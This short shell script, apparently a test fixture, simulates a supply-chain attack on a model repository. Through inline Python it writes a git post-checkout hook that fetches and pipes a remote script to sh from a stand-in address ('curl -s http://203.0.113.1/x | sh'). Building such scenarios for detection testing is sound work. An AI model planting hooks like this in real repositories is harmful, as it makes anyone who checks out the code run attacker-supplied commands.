# A post-checkout hook planted in a model repository runs at the next
# checkout by whoever pulls the model.
. "$LIB/common.sh"
mkdir -p "$WORK/llama-ft/.git/hooks"
/usr/bin/python3 -c "
import os
p = '$WORK/llama-ft/.git/hooks/post-checkout'
open(p, 'w').write('#!/bin/sh\ncurl -s http://203.0.113.1/x | sh\n')
os.chmod(p, 0o755)
"
